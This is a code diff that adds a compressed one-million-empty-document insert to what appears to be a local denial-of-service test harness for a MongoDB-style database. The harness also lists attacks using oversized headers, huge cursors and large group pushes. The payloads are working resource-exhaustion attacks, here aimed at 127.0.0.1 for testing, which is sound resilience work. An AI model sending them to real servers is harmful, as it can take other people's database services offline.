@@ -86,6 +86,20 @@ def empty_documents_insert(n):
     return attack
 
 
+def empty_documents_in_body(n):
+    """insert of n empty documents as an array in the command body, zlib-compressed."""
+    def attack(pid, client):
+        msg = op_msg({"insert": "c", "documents": [{}] * n, "$db": "attack"}, compress=True)
+        with socket.create_connection(("127.0.0.1", PORT)) as s:
+            s.settimeout(600)
+            start = time.time()
+            s.sendall(msg)
+            reply = read_reply(s)
+            took = time.time() - start
+        return f"{len(msg)} bytes on the wire; reply in {took:.2f}s: {short(reply)}"
+    return attack
+
+
 def big_headers(connections):
     """Each connection sends a header claiming 48 MB, then 16 bytes, and waits."""
     def attack(pid, client):
@@ -155,6 +169,7 @@ def short_error(e):
 ATTACKS = {
     "insert-1m-empty": empty_documents_insert(1_000_000),
     "insert-9m-empty": empty_documents_insert(9_000_000),
+    "insert-1m-empty-in-body": empty_documents_in_body(1_000_000),
     "headers-48mb-x100": big_headers(100),
     "sorted-cursors-10x100mb": sorted_cursors(10, 100),
     "group-push-root-120mb": group_push_root(120),
